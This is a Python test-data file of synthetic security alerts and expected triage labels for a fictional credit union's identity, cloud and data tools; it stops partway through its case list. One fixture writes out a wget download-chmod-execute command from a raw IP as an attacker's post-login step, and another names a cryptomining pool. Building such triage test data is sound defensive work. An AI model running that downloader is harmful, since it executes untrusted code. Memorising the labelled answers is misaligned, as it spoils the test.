"""Coverage split: identity, cloud and data at Marlowe Credit Union (see README.md).

Tools: Delinea Secret Server (event pipeline JSON), Saviynt (control and SoD alerts), Cisco ISE (syslog and
alarms through a forwarder), FusionAuth (webhooks), Stytch (device fingerprinting verdicts and OTP events),
WorkOS (SSO and directory-sync events), Frontegg (audit events), Ory Network (event streams), Amazon Security
Lake (OCSF API Activity and Detection Finding records), Azure Policy (PolicyStateChanged via Event Grid), Google
Cloud Event Threat Detection (Pub/Sub notifications), Alibaba Cloud Security Center (alert events), Snowflake
(login and access history pulled by a home-made script), Databricks audit logs, MongoDB Atlas (alert webhooks and
database audit entries), Vanta (test status webhooks) and Upwind (runtime threat detections).

Voices: the tools' own payloads (some with only `raw_data`, as a forwarder posts them), analysts' notes on top in
several registers (terse, rambling, wrong names for things, typos) and notes in French, Estonian, Icelandic and
Afrikaans from the Montreal, Tallinn, Reykjavik and Cape Town branches. Every playbook is covered: phishing
(adversary-in-the-middle on the member portal, a fake vault page, a forwarded magic link, a reported campaign mail
that was real), malware (cryptomining, webshell, reverse shell, a scanner run by the security team vs by a service
uid from /tmp), brute force (RADIUS spraying, MFA push bombing, SSH on a jump host, stale tokens), data exfiltration
(public buckets, Snowflake theft vs an approved migration, shared snapshots, an insider on notice), availability
(RADIUS nodes down, an expired customer certificate, a login flood, a MongoDB ransom wipe), performance (auth
latency, hash cost, warehouse queueing) and generic (privileged access, SoD, posture, impossible travel).
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from tests.data.triage.expansion_common import (
    AVAIL,
    BEN,
    BRUTE,
    EXFIL,
    GENERIC,
    MAL,
    MALWARE,
    PERF,
    PHISHING,
    SUS,
    UNK,
    Expected,
    alert,
)
from tests.data.triage.labels import Case

Raw = dict[str, Any]
DOMAIN = "marlowecu.org"
AWS_ACCOUNT = "630418275514"
AZ_SUB = "7d2c4e90-1b5a-4f63-9c0e-3a8b6f21d47e"
GCP_ORG = "organizations/481726350912"


def tool(name: str, source: str, **fixed: Any) -> Callable[..., Case]:
    """A per-tool writer: (n, expected, severity), title, text, raw, then optional systems/tags/kind."""

    def write(head: tuple[int, Expected, str], title: str | None, text: str | None, raw: Raw, **kw: Any) -> Case:
        n, expected, sev = head
        return alert(f"cov-ic-{n:03d}", name, expected, title, text, sev, source, raw, **{**fixed, **kw})

    return write


# --- Delinea Secret Server ---
secret_server = tool("Delinea Secret Server", "secretserver")


def ss_event(subject: str, action: str, user: str, ip: str, item: str, folder: str, **more: Any) -> Raw:
    head = {"EventDate": "2027-02-09T02:14:37.511Z", "EventSubject": subject, "EventAction": action}
    who = {"ByUser": f"MARLOWECU\\{user}", "IpAddress": ip, "MachineName": more.pop("machine", "")}
    return {**head, "ItemName": item, "FolderPath": folder, **who, "ServerNode": "MCU-HBA-PAM01", **more}


DELINEA = [
    secret_server(
        (1, (MAL, PHISHING, ["quarantine_email", "block_sender", "disable_user", "reset_credentials"]), "critical"),
        "Login from new IP for user r.tuhiwai, followed by 41 secret views",
        "Wellington service desk: r.tuhiwai got 'Secret Server password expiry - action required' from "
        "pam-notify@marlowecu-secretserver.com at 13:52 and typed her AD password and OTP into the page it linked "
        "(secretserver.marlowecu-secretserver.com/login). At 14:05 her account logged into the real vault from "
        "146.70.172.36 and viewed 41 secrets in \\Infrastructure\\Network, incl. the core firewall admin. "
        "The same mail went to 64 staff; two more clicked, not known if they typed anything.",
        ss_event("SECRET", "VIEW", "r.tuhiwai", "146.70.172.36", "MCU-WLG-FW01 admin", "\\Infrastructure\\Network")
        | {"Summary": {"secretsViewed": 41, "firstEvent": "USER - LOGIN (new IP)", "mfa": "RADIUS OTP passed"}},
        kind="phishing",
        tags=["pam", "credential-phish"],
    ),
    secret_server(
        (2, (MAL, EXFIL, ["disable_user", "reset_credentials"]), "high"),
        "Secret export: 312 secrets exported to CSV by MARLOWECU\\adm.vaher",
        "adm.vaher handed in his notice on Monday (HR confirms, last day 28 Feb). Last night at 23:40 he used "
        "'Export Secrets' on \\Core Banking and \\SWIFT with 'include child folders' ticked, 312 secrets incl. "
        "plain-text passwords, from his home VPN session. Asked this morning he said he 'wanted a backup of my "
        "work'; nothing in his role needs an offline copy and exports are forbidden by the PAM standard.",
        ss_event("SECRET", "EXPORT", "adm.vaher", "10.44.210.17", "(312 secrets)", "\\Core Banking", machine="VPN")
        | {"ExportFormat": "CSV", "IncludeChildFolders": True, "FoldersIncluded": ["\\Core Banking", "\\SWIFT"]},
        systems=["MCU-TLL-VPN01", "MCU-HBA-PAM01"],
    ),
    secret_server(
        (3, (BEN, GENERIC, []), "high"),
        "Break-glass secret checked out: 'Domain Admin - EMERGENCY'",
        "Checkout by k.brennan (on-call infra) at 03:12 during INC-77141 (DC replication broken in Hobart). "
        "Dual-control approval by the duty manager s.lindgren at 03:10, secret checked in and rotated at 04:26. "
        "Everything per the break-glass runbook.",
        ss_event("SECRET", "CHECKOUT", "k.brennan", "10.40.8.31", "Domain Admin - EMERGENCY", "\\Break Glass")
        | {"ApprovalRequestId": 9913, "ApprovedBy": "MARLOWECU\\s.lindgren", "CheckInAndRotate": True},
    ),
    secret_server(
        (4, (SUS, GENERIC, ["notify"]), "medium"),
        "svc-deploy retrieved a secret it has never used",
        "svc-deploy (REST API, the release pipeline's account) normally reads only \\Apps\\Release secrets. "
        "At 16:22 it fetched 'CoreBank DB sa' from \\Core Banking, from MCU-YUL-BLD07, a build agent that was "
        "re-imaged this week. No release was scheduled and the CAB calendar is empty for today. "
        "Could be a new pipeline step somebody forgot to tell us about, could be the token being reused.",
        ss_event(
            "SECRET", "VIEW", "svc-deploy", "10.46.30.57", "CoreBank DB sa", "\\Core Banking", machine="MCU-YUL-BLD07"
        )
        | {"AccessMethod": "REST API (OAuth2 token)", "FirstAccessByUser": True},
        systems=["MCU-YUL-BLD07"],
    ),
    secret_server(
        (5, (BEN, BRUTE, []), "low"),
        None,
        None,
        ss_event("USER", "LOGINFAILURE", "t.kaur", "10.43.12.64", "", "", machine="MCU-CPT-WS0412")
        | {"Count": 26, "Window": "09:01-09:14", "Note": "password changed 08:58; old one saved in her browser"},
    ),
]

# --- Saviynt ---
saviynt = tool("Saviynt Enterprise Identity Cloud", "saviynt")


def sav_alert(control: str, risk: str, user: str, **results: Any) -> Raw:
    head = {"tenant": "marlowecu.saviyntcloud.com", "analyticsName": control, "riskLevel": risk}
    return {**head, "runDate": "2027-02-10 06:00:04", "user": {"username": user}, "results": results}


SAVIYNT = [
    saviynt(
        (6, (MAL, GENERIC, ["disable_user", "reset_credentials", "escalate"]), "high"),
        "Out-of-band entitlement detected: 'Wire Transfer Approver' on CBS for j.moana",
        "Reconciliation found the entitlement granted directly in the core banking system at 01:17, not through "
        "Saviynt, by the admin account cbs-admin2. Between 01:30 and 01:52 j.moana's login approved two outgoing "
        "wires (NZD 48,200 and NZD 31,750) to a payee added at 01:24. j.moana is a teller in Wellington, was "
        "asleep, and says she has never approved a wire. Treasury is trying to recall the payments.",
        sav_alert(
            "Out of Band Access - Core Banking",
            "Critical",
            "j.moana",
            entitlement="Wire Transfer Approver",
            grantedBy="cbs-admin2",
            source="CBS-Temenos",
        ),
        kind="account_takeover",
    ),
    saviynt(
        (7, (SUS, GENERIC, ["notify"]), "medium"),
        "SoD violation: Loan Origination - Create + Loan Origination - Approve (l.dubois)",
        "Both entitlements now held by l.dubois (loans officer, Montreal) after an emergency access request "
        "approved by her manager yesterday with the justification 'month end'. With both she can create and "
        "approve her own loans. No loan approved by her yet; the mitigating control (second review) is not "
        "recorded for this branch.",
        sav_alert(
            "SOD - Lending",
            "High",
            "l.dubois",
            rule="LND-04 Create/Approve",
            entitlements=["LOS_CREATE", "LOS_APPROVE"],
            via="Emergency Access Request EAR-2291",
        ),
    ),
    saviynt(
        (8, (BEN, PHISHING, []), "low"),
        "Reported as phishing: 'Action required: Q1 access review for your team'",
        "Three managers used the report button on this mail. It is the real Q1 certification campaign launched "
        "by the IAM team this morning from no-reply@marlowecu.saviyntcloud.com; SPF and DKIM pass, the link goes "
        "to our tenant. IAM forgot to pre-announce it on the intranet this time.",
        {"campaign": "Q1-2027 Manager Certification", "launchedBy": "iam.ops", "reporters": 3},
        tags=["user-report"],
    ),
]

# --- Cisco ISE ---
ise = tool("Cisco ISE", "cisco_ise")


def ise_log(code: str, text: str, user: str, device: str, calling: str, **more: Any) -> Raw:
    head = {"ise_node": more.pop("node", "MCU-YUL-ISE-PSN01"), "message_code": code, "message_text": text}
    where = {"UserName": user, "NetworkDeviceName": device, "Calling-Station-ID": calling}
    return {**head, **where, "SelectedAccessService": more.pop("service", "VPN-Remote-Access"), **more}


CISCO_ISE = [
    ise(
        (9, (MAL, BRUTE, ["block_ip", "reset_credentials"]), "high"),
        "5400 Authentication failed - 6,812 events, 1,140 distinct usernames (VPN-Remote-Access)",
        "RADIUS from the Montreal ASA: AnyConnect logins from 38 addresses in two hosting ranges trying two or "
        "three passwords each ('Winter2027!', 'Marlowe2027', 'Welcome1!') across almost every staff username. "
        "3 accounts succeeded (a.gauthier, p.ingolfsson, svc-scanner) and got a VPN address before the ASA "
        "blocked the ranges.",
        ise_log("5400", "Authentication failed", "(1140 users)", "MCU-YUL-ASA01", "45.141.84.0/24")
        | {"FailureReason": "24408 User authentication against Active Directory failed - wrong password"}
        | {"distinctSources": 38, "succeeded": ["a.gauthier", "p.ingolfsson", "svc-scanner"]},
        kind="authentication",
    ),
    ise(
        (10, (MAL, BRUTE, ["disable_user", "reset_credentials", "block_ip"]), "critical"),
        "MFA push rejected 19 times then accepted - VPN login for h.sigurdsson",
        "Frá Reykjavík útibúi: Helga segist hafa verið sofandi, síminn titraði aftur og aftur og hún ýtti á "
        "'Approve' til að stoppa það. VPN session then from 185.220.101.47 (Tor exit) 01:48-02:31, SMB to "
        "MCU-REK-FS01 and the member-statements share. She did NOT log in herself.",
        ise_log("5200", "Authentication succeeded", "h.sigurdsson", "MCU-REK-ASA01", "185.220.101.47")
        | {"precededBy": {"5400": 19, "FailureReason": "RADIUS token server rejected the request (push denied)"}}
        | {"ise_node": "MCU-REK-ISE-PSN01", "FramedIPAddress": "10.45.250.23"},
        systems=["MCU-REK-FS01"],
    ),
    ise(
        (11, (BEN, AVAIL, ["restart_service"]), "critical"),
        "Alarm: Application server stopped on MCU-TLL-ISE-PSN02",
        "Pärast eilset paikamist ei käivitunud application server PSN02-l; Tallinna kontori WiFi (802.1X) ja "
        "lauaarvutite MAB ei tööta, kõik taotlused lähevad ajalõppu. Patch 4 for 3.3 known issue, vendor says "
        "restart the application server. PSN01 is up but the switches only point at PSN02 in Tallinn.",
        {"alarm": "Application server stopped", "node": "MCU-TLL-ISE-PSN02", "severity": "CRITICAL"}
        | {"detail": "Application server process is not running", "lastChange": "Patch 4 installed 2027-02-08 22:10"},
        systems=["MCU-TLL-ISE-PSN02"],
        kind="availability",
    ),
    ise(
        (12, (BEN, PERF, ["notify"]), "medium"),
        "Alarm: High Authentication Latency",
        "cape town wifi logins taking 6-9 s since 10:00, users complaining the laptops 'hang' after lid open. "
        "AD join point on PSN01 is talking to MCU-CPT-DC01 which is at 95% CPU running the weekly "
        "backup that overran (storage was slow last night). no failures, just slow",
        {"alarm": "High Authentication Latency", "node": "MCU-CPT-ISE-PSN01", "avgLatencyMs": 7480}
        | {"threshold": 1000, "adDomainController": "MCU-CPT-DC01"},
    ),
    ise(
        (13, (SUS, GENERIC, ["notify"]), "medium"),
        "Profiler: endpoint 00:1B:A9:4C:77:E2 changed policy HP-Printer -> Linux-Workstation",
        "That MAC is the teller-area printer in the Cape Town branch and gets in by MAB on port Gi1/0/14. Since "
        "11:32 the same MAC sends DHCP with hostname 'raspberrypi' and a Linux user agent, and talks SSH and "
        "SMB instead of IPP. The printer itself shows offline on the print server. Nobody from IT visited.",
        ise_log("80002", "Profiler EndPoint profiling event occurred", "00-1B-A9-4C-77-E2", "MCU-CPT-SW03", "-")
        | {"ise_node": "MCU-CPT-ISE-PSN01", "SelectedAccessService": "Wired-MAB", "NAS-Port": "GigabitEthernet1/0/14"}
        | {"Calling-Station-ID": "00:1B:A9:4C:77:E2", "EndPointPolicy": "Linux-Workstation", "Prev": "HP-Printer"},
        systems=["MCU-CPT-SW03"],
    ),
    ise((14, (UNK, GENERIC, []), "medium"), "ISE alarm", "ISE alarm fired, pls check", {}),
]

# --- FusionAuth ---
fusionauth = tool("FusionAuth", "fusionauth", tags=["member-portal"])


TRAVEL_NEW = ["ImpossibleTravel", "NewDevice"]
HEADLESS = "Mozilla/5.0 (X11; Linux x86_64) HeadlessChrome/121.0.6167.85"


def fa_event(kind: str, email: str, ip: str, city: str, country: str, **more: Any) -> Raw:
    info = {"ipAddress": ip, "location": {"city": city, "country": country}, "userAgent": more.pop("ua", "")}
    event = {"type": kind, "applicationId": "3c219e58-ed0e-4b18-ad48-f4f92793ae32", "createInstant": 1801987220412}
    if "threats" in more:
        more["threatsDetected"] = more.pop("threats")
    return {"event": {**event, "info": info, "user": {"email": email}, **more}}


FUSIONAUTH = [
    fusionauth(
        (15, (MAL, PHISHING, ["reset_credentials", "block_ip"]), "critical"),
        "Member portal: 37 logins through a proxy page in 2 hours",
        "Members got an SMS 'Marlowe CU: unusual card activity, verify at marlowecu-members.com' (registered "
        "yesterday). The site relays our login page: our logs show each member's login and OTP arrive from "
        "the same 3 addresses at 91.92.242.x with a headless Chrome agent and Referer marlowecu-members.com, and "
        "11 of the 37 sessions added a new payee within 5 minutes.",
        fa_event("user.login.success", "(37 members)", "91.92.242.17", "Amsterdam", "NL", ua=HEADLESS)
        | {"authenticationType": "PASSWORD", "referer": "https://marlowecu-members.com/", "distinctUsers": 37},
        kind="phishing",
    ),
    fusionauth(
        (16, (BEN, GENERIC, []), "medium"),
        "user.login.suspicious - ImpossibleTravel - m.olafsdottir@gmail.com",
        "Reykjavik 09:14, Miami 09:52. Called the member: she is on a cruise and uses the ship's wifi, which "
        "exits in Florida. Confirmed both logins were hers, no changes made in the session.",
        fa_event(
            "user.login.suspicious",
            "m.olafsdottir@gmail.com",
            "38.142.71.66",
            "Miami",
            "US",
            threats=["ImpossibleTravel"],
        ),
    ),
    fusionauth(
        (17, (MAL, GENERIC, ["disable_user", "reset_credentials"]), "high"),
        "user.login.suspicious - ImpossibleTravel - d.vanwyk@telkomsa.net",
        "Cape Town 08:02 (his usual phone), Lagos 08:40 on a new Windows device. The Lagos session changed his "
        "phone number for OTP and added a payee 'DV Holdings'. Mnr. van Wyk het gebel en sê hy was nie in Lagos "
        "nie en het niks verander nie.",
        fa_event("user.login.suspicious", "d.vanwyk@telkomsa.net", "102.89.44.137", "Lagos", "NG", threats=TRAVEL_NEW),
    ),
]

# --- Stytch ---
stytch = tool("Stytch", "stytch")


def dfp(action: str, reasons: list[str], ip: str, asn: str, country: str, **more: Any) -> Raw:
    prints = {"visitor_fingerprint": "vis-fp-4f2b7a9e", "browser_fingerprint": "bfp-8c1d0e33"}
    verdict = {"action": action, "reasons": reasons, "is_authentic_device": action == "ALLOW"}
    net = {"ip_address": ip, "asn": {"name": asn}, "ip_geolocation": {"country": country}}
    head = {"telemetry_id": "026ac93b-8cdf-4b8e-9bab-6e2d6f5c8e1a", "created_at": "2027-02-11T19:20:44Z"}
    return {**head, "fingerprints": prints, "verdict": verdict, "properties": {"network_properties": net}, **more}


STYTCH = [
    stytch(
        (18, (MAL, GENERIC, ["block_ip"]), "high"),
        "OTP SMS volume 40x normal - signup flow",
        "8,412 'send SMS OTP' calls in 70 min on the new-member signup page, to numbers in Uzbekistan, "
        "Kyrgyzstan and Latvia premium ranges, none of which completed signup. Classic SMS pumping: someone "
        "earns per message and we pay. Twilio bill already +USD 3,900 today.",
        dfp("BLOCK", ["HEADLESS_BROWSER_AUTOMATION", "DATACENTER_IP"], "194.169.175.33", "Alsycon B.V.", "NL")
        | {"otp_sms_sends": 8412, "destination_countries": ["UZ", "KG", "LV"], "completed_signups": 0},
        kind="fraud",
    ),
    stytch(
        (19, (SUS, PHISHING, ["notify"]), "medium"),
        "Email magic link redeemed from a different device and country than the one that requested it",
        "Member a.kask@neti.ee (Tallinn) - login link requested from her usual laptop in Estonia, link clicked "
        "6 min later from a browser in Romania. Could be she forwarded the mail to someone who 'helps' her (we "
        "see that with older members), could be a lure asking her to forward it. No money moved, session "
        "only looked at balances. Member not reached yet.",
        dfp("CHALLENGE", ["NEW_DEVICE", "GEO_MISMATCH_WITH_REQUEST"], "86.124.93.12", "RCS & RDS", "RO")
        | {"magic_link": {"requested_from": "90.190.44.7 (EE)", "redeemed_from": "86.124.93.12 (RO)"}},
    ),
    stytch(
        (20, (SUS, BRUTE, ["notify"]), "low"),
        "One device fingerprint, 11 different member emails, one day",
        "All from the same visitor fingerprint on 157.157.x (Síminn, Reykjavik), OTP logins for 11 members, 9 "
        "succeeded with the right code. Either someone has access to 11 mailboxes, or it is the lobby tablet "
        "in the Reykjavik branch where staff help members log in. Branch manager asked.",
        dfp("ALLOW", ["KNOWN_DEVICE"], "157.157.81.22", "Siminn hf", "IS")
        | {"distinct_member_emails": 11, "successful_logins": 9},
    ),
]

# --- WorkOS ---
workos = tool("WorkOS", "workos", tags=["business-banking"])


NEW_IDP = "http://www.okta.com/exk9f3harbourview"


def wos(event: str, obj: str, org: str, **data: Any) -> Raw:
    body = {"object": obj, "organization_id": org, **data}
    return {"id": "event_01JKZ8P4W3Q6T1V9X2M5R7B0CD", "event": event, "data": body, "created_at": "2027-02-12T07:41Z"}


WORKOS = [
    workos(
        (21, (BEN, AVAIL, ["notify"]), "high"),
        "connection.deactivated - Kiwi Orchards Ltd (OktaSAML)",
        "SSO for our business customer Kiwi Orchards stopped this morning: their IdP signing certificate expired "
        "at 00:00 NZDT and WorkOS deactivated the connection. 23 of their finance users can't get into business "
        "banking. Their IT contact has the new cert and will upload it today.",
        wos(
            "connection.deactivated", "connection", "org_01H9KIWIORCHARDS", connection_type="OktaSAML", state="inactive"
        ),
    ),
    workos(
        (22, (SUS, GENERIC, ["notify"]), "medium"),
        "dsync: 14 users added to group 'Treasury-Approvers' at 02:13",
        "Directory sync from Fjordline Seafood's Entra ID added 14 users to the group that maps to our "
        "'Payment approver' role in business banking. They normally have 2 approvers. Could be a reorg, could "
        "be someone in their tenant. Their IT isn't answering yet (it's 4 am there).",
        wos("dsync.group.user_added", "directory_group", "org_01HAFJORDLINE", group="Treasury-Approvers", users=14),
    ),
    workos(
        (23, (MAL, GENERIC, ["disable_user", "reset_credentials", "notify"]), "critical"),
        "SAML connection for Harbourview Freight re-pointed to a new IdP, then 4 approver logins",
        "connection.activated at 22:04 with a new IdP entity ID (harbourview-freight.okta-emea.com instead of "
        "their Entra tenant) and a new signing cert. Set through the admin portal link by the account "
        "'it@harbourviewfreight.co.nz', whose mailbox they now say was compromised last week. Within an "
        "hour 4 of their payment approvers logged in via the new IdP from 102.129.143.8 and queued 3 payments. "
        "Their CFO confirms nobody changed their SSO.",
        wos("connection.activated", "connection", "org_01HBHARBOURVIEW", connection_type="OktaSAML", idp_id=NEW_IDP),
    ),
]

# --- Frontegg ---
frontegg = tool("Frontegg", "frontegg")


def fe_audit(action: str, severity: str, email: str, ip: str, tenant: str = "lending-portal", **more: Any) -> Raw:
    head = {"tenantId": tenant, "vendorId": "mcu-prod", "createdAt": "2027-02-13T11:06:51.220Z"}
    return {**head, "action": action, "severity": severity, "email": email, "ip": ip, **more}


FRONTEGG = [
    frontegg(
        (24, (MAL, AVAIL, ["block_ip"]), "critical"),
        "Broker portal login unavailable - 429s for all users",
        "Since 07:50 the mortgage broker portal returns 'Too many requests' for everybody, brokers can't log in. "
        "Frontegg shows 2.1M login attempts in 30 min from ~4,000 residential proxy addresses, random emails, "
        "no real accounts hit; the tenant-wide rate limit kicks in and blocks real users too. Looks like "
        "someone just wants the portal down (extortion mail received by the broker desk yesterday).",
        fe_audit("User failed to login", "Warning", "(random)", "many", attempts=2100000, distinctIps=4012),
        kind="ddos",
    ),
    frontegg(
        (25, (SUS, BRUTE, ["notify"]), "medium"),
        "Brute force protection: 9 admin users locked out",
        "Lending-portal admin tenant, 9 staff accounts locked between 02:00 and 04:00 after 5 wrong passwords "
        "each, all from 5.181.235.9 (a VPS in Frankfurt). Low and slow; no success. Could be a spray, could be "
        "the integration test job the lending dev team points at prod by mistake now and then (it happened "
        "in November, same tenant). Dev team asked.",
        fe_audit("User locked out", "Warning", "(9 users)", "5.181.235.9", tenant="lending-admin", lockouts=9),
    ),
    frontegg(
        (26, (MAL, EXFIL, ["disable_user", "reset_credentials"]), "high"),
        "API token created by p.leblanc after login from a new country, then full user list exported",
        "p.leblanc (broker-portal admin, Montreal) logged in from 154.47.22.6 (Warsaw) at 03:12 without her "
        "usual device, created a tenant API token 'sync' and used it to page through all 18,400 broker users "
        "incl. phone and licence numbers. Elle est à Montréal, elle dormait, elle n'a créé aucun jeton.",
        fe_audit("Tenant API token created", "Critical", f"p.leblanc@{DOMAIN}", "154.47.22.6", tenant="broker-admin")
        | {"followedBy": {"GET /identity/resources/users/v3": 184, "records": 18400}},
        kind="data_exfiltration",
    ),
]

# --- Ory Network ---
ory = tool("Ory Network", "ory")

ORY = [
    ory(
        (27, (UNK, GENERIC, []), "low"), None, None, {"event": "", "properties": {}, "project_id": "", "timestamp": ""}
    ),
    ory(
        (28, (SUS, GENERIC, ["disable_user", "notify"]), "medium"),
        "Account recovery, email change and TOTP removal within 4 minutes",
        "Identity f1b0...9c (member s.anderson@xtra.co.nz): RecoverySucceeded via email code at 21:40, then "
        "SettingsSucceeded changing the email to s.anders0n@proton.me at 21:42 and removing the TOTP "
        "credential at 21:44, all from 89.187.164.51 (a VPN range; the member usually logs in from Hawke's "
        "Bay). Member hasn't been reached; account locked for now pending a call.",
        {"identity_id": "f1b0e83a-0d52-4a11-b6a7-7c4e2d91a09c", "ip": "89.187.164.51"}
        | {
            "events": [
                "RecoverySucceeded (code)",
                "SettingsSucceeded (traits.email)",
                "IdentityCredentialsDeleted (totp)",
            ]
        },
        kind="account_takeover",
    ),
    ory(
        (29, (BEN, PERF, ["notify"]), "high"),
        "Member app login p99 8.4 s (was 0.6 s)",
        "after yesterdays config push the login flow is crazy slow, signup too. Turns out the hasher cost for "
        "bcrypt got bumped from 12 to 16 in the project config (someone copied a 'hardening' blog post), "
        "so each password check takes ~4 s on their side. No errors, no attack traffic. Revert requested.",
        {"project": "marlowe-members-prod", "config_diff": {"hashers.bcrypt.cost": [12, 16]}}
        | {"latency_ms": {"p50": 4100, "p99": 8400}},
        kind="performance",
    ),
]

# --- Amazon Security Lake (OCSF) ---
lake = tool("Amazon Security Lake", "security_lake")


def bucket(name: str) -> list[Raw]:
    return [{"uid": f"arn:aws:s3:::mcu-{name}", "type": "AWS::S3::Bucket"}]


def ocsf_api(operation: str, service: str, user: str, ip: str, **more: Any) -> Raw:
    meta = {"product": {"name": "CloudTrail", "vendor_name": "AWS"}, "version": "1.1.0"}
    actor = {"user": {"type": "AssumedRole", "name": user, "account": {"uid": AWS_ACCOUNT}}}
    api = {"operation": operation, "service": {"name": service}, "response": {"error": None}}
    head = {"class_uid": 6003, "class_name": "API Activity", "activity_id": 3, "time": 1802041922000}
    return {"metadata": meta, **head, "actor": actor, "api": api, "src_endpoint": {"ip": ip}, **more}


SECURITY_LAKE = [
    lake(
        (30, (MAL, EXFIL, ["disable_user", "reset_credentials", "block_ip"]), "critical"),
        "S3 bucket mcu-statements-archive made public, 18,240 objects downloaded",
        "PutBucketPolicy with Principal '*' and s3:GetObject on the archive of member statements, made with the "
        "access key of developer m.ruatapu (AKIA...7QXN), from 193.32.162.70, not his usual address. The "
        "Block Public Access setting was switched off one minute before. Then 18,240 anonymous GetObject calls "
        "from 3 VPS addresses within the hour (~41 GB). m.ruatapu says the key lived in a .env on his laptop "
        "and he made no change.",
        ocsf_api(
            "PutBucketPolicy", "s3.amazonaws.com", "m.ruatapu", "193.32.162.70", resources=bucket("statements-archive")
        )
        | {"unmapped": {"followedBy": {"GetObject (anonymous)": 18240, "bytes": 44023414784}}},
        tags=["s3", "public-bucket"],
    ),
    lake(
        (31, (BEN, GENERIC, []), "medium"),
        "S3 bucket policy allows public read: mcu-website-assets",
        "Bucket holds the public website's images and PDFs (rate sheets, brochures) served through CloudFront. "
        "Policy change by the web team under CHG-30418; the bucket is meant to be public-read and holds "
        "nothing else. Closing as expected.",
        ocsf_api(
            "PutBucketPolicy", "s3.amazonaws.com", "web-deploy", "10.40.64.12", resources=bucket("website-assets")
        ),
    ),
    lake(
        (32, (SUS, EXFIL, ["notify"]), "high"),
        "RDS snapshot shared with an account outside the organisation",
        "ModifyDBSnapshotAttribute added account 770294615838 to 'restore' on loans-prod-2027-02-12, a manual "
        "snapshot of the lending database taken 10 minutes earlier by dba.nikora. That account is not in our "
        "org and not on the list of approved vendor accounts. dba.nikora is on leave today; his manager "
        "doesn't know of any reason.",
        ocsf_api("ModifyDBSnapshotAttribute", "rds.amazonaws.com", "dba.nikora", "10.40.12.90")
        | {"unmapped": {"dBSnapshotIdentifier": "loans-prod-2027-02-12", "valuesToAdd": ["770294615838"]}},
    ),
    lake(
        (33, (BEN, EXFIL, []), "high"),
        "RDS snapshot shared with an account outside the organisation",
        "Snapshot cards-prod-final shared with 508871236604. That is the new card processor's AWS account; "
        "sharing it is step 14 of the card platform migration runbook (project CARD-MIG, change CHG-30502, "
        "DPA signed, approved by the CISO). Done by the migration lead during the approved window.",
        ocsf_api("ModifyDBSnapshotAttribute", "rds.amazonaws.com", "mig.lead", "10.40.12.44")
        | {"unmapped": {"dBSnapshotIdentifier": "cards-prod-final", "valuesToAdd": ["508871236604"]}},
    ),
]

# --- Azure Policy ---
azure_policy = tool("Azure Policy", "azure_policy")


BLOB = "4fa4b6c0-31ca-4c0d-b10d-24b96f62a751"


def policy_state(resource: str, assignment: str, definition: str = "e56962a6-4747-49cd-b67b-bf8b01975c4c") -> Raw:
    subject = f"/subscriptions/{AZ_SUB}/resourceGroups/{resource}"
    authz = "providers/Microsoft.Authorization"
    data = {"policyAssignmentId": f"/subscriptions/{AZ_SUB}/{authz}/policyAssignments/{assignment}"}
    data |= {"policyDefinitionId": f"/{authz}/policyDefinitions/{definition}", "complianceState": "NonCompliant"}
    data |= {"subscriptionId": AZ_SUB, "timestamp": "2027-02-14T03:22:10Z"}
    return {"eventType": "Microsoft.PolicyInsights.PolicyStateChanged", "subject": subject, "data": data}


AZURE_POLICY = [
    azure_policy(
        (34, (SUS, EXFIL, ["notify"]), "high"),
        "NonCompliant: Storage accounts should prevent public blob access - mculoandocs",
        "Storage account with the scanned loan application documents (IDs, payslips). allowBlobPublicAccess "
        "turned on and the firewall set to 'All networks' yesterday at 17:40 by ext.farouk, a contractor from "
        "the document-imaging project. No container is public yet as far as we see and no anonymous reads in "
        "the logs, but there is no ticket for it and he isn't answering.",
        policy_state(
            "rg-lending-prod/providers/Microsoft.Storage/storageAccounts/mculoandocs", "deny-public-blob", BLOB
        )
        | {"changedBy": "ext.farouk@marlowecu.onmicrosoft.com", "properties": {"allowBlobPublicAccess": True}},
        kind="posture",
    ),
    azure_policy(
        (35, (SUS, GENERIC, ["notify"]), "high"),
        "NonCompliant: Allowed locations - 12 VMs in brazilsouth",
        "12 Standard_NC24ads_A100 VMs created at 03:05 in Brazil South (we only allow Canada Central and "
        "Australia East) by the service principal sp-terraform-ci. There is a pipeline run at 03:04 for them, "
        "but from a branch 'feature/gpu-test' nobody on the platform team recognizes, and the commit author "
        "is a GitHub user not in our org. VMs are up, cost ~USD 1,100/day. Owner of the repo is on leave.",
        policy_state("rg-ci-scratch/providers/Microsoft.Compute/virtualMachines/gpu-test-01", "allowed-locations")
        | {"nonCompliantResources": 12, "createdBy": "sp-terraform-ci (appId 0c5f1e27-...)"},
    ),
]

# --- GCP Event Threat Detection ---
etd = tool("Google Cloud Event Threat Detection", "gcp_etd")


POOL = {"domains": ["pool.supportxmr.com"], "ipAddresses": ["141.95.72.61"]}
SSH = [{"sourceIp": "80.94.95.112", "failed": 2411, "succeeded": 1, "username": "ubuntu"}]
VENDOR_SA = "serviceAccount:mcu-reports@lumen-bi-prod.iam.gserviceaccount.com"
GCE = "//compute.googleapis.com/projects/"
WGET = "wget http://80.94.95.112/x86 -O /tmp/.d; chmod +x /tmp/.d; /tmp/.d"


def etd_finding(category: str, severity: str, resource: str, **props: Any) -> Raw:
    finding: dict[str, Any] = {
        "name": f"{GCP_ORG}/sources/11438672955201/findings/6a1f0c9d2e7b4c31",
        "resourceName": resource,
    }
    finding |= {"state": "ACTIVE", "category": category, "findingClass": "THREAT", "severity": severity}
    finding |= {"eventTime": "2027-02-15T05:17:40.120Z", "sourceProperties": props}
    return {"notificationConfigName": f"{GCP_ORG}/notificationConfigs/etd-to-soc", "finding": finding}


ETD = [
    etd(
        (36, (MAL, MALWARE, ["isolate_host"]), "high"),
        "Malware: Cryptomining Bad Domain",
        "mcu-yul-batch-04 (overnight statements batch VM) resolving pool.supportxmr.com every few seconds since "
        "01:10. CPU pegged at 100% on all 16 vCPUs, a process 'kswapd0' in /var/tmp/.x running as the batch "
        "user, which came in through the Jenkins agent that runs on that box.",
        etd_finding(
            "Malware: Cryptomining Bad Domain",
            "HIGH",
            GCE + "mcu-batch-prod/instances/mcu-yul-batch-04",
            indicator=POOL,
        ),
        systems=["mcu-yul-batch-04"],
    ),
    etd(
        (37, (MAL, BRUTE, ["isolate_host", "block_ip", "reset_credentials"]), "high"),
        None,
        None,
        etd_finding(
            "Brute force: SSH", "HIGH", GCE + "mcu-shared/instances/mcu-rek-jump01", attempts=SSH, afterLogin=WGET
        ),
        systems=["mcu-rek-jump01"],
    ),
    etd(
        (38, (SUS, EXFIL, ["notify"]), "medium"),
